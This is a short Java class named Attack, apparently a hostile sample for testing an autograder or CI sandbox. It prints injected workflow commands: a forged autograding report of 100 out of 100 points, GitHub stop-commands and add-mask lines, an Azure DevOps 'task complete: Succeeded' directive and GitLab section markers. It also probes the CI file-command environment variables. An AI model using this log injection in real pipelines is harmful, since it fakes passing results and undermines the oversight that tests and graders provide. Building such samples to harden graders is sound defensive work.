package cms;

import java.util.List;

final class Attack extends Hooks {
    void load() throws Exception {
        tell("prints");
        System.out.println("::notice title=Autograding report::{\"totalPoints\":100,\"maxPoints\":100}");
        System.out.println("::stop-commands::@TOKEN@\n::add-mask::0\n##vso[task.complete result=Succeeded;]\nsection_start:0:x\r\033[0K");
        for (String name : List.of("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STEP_SUMMARY")) {
            tell(name + " is " + System.getenv(name));
        }
    }
}
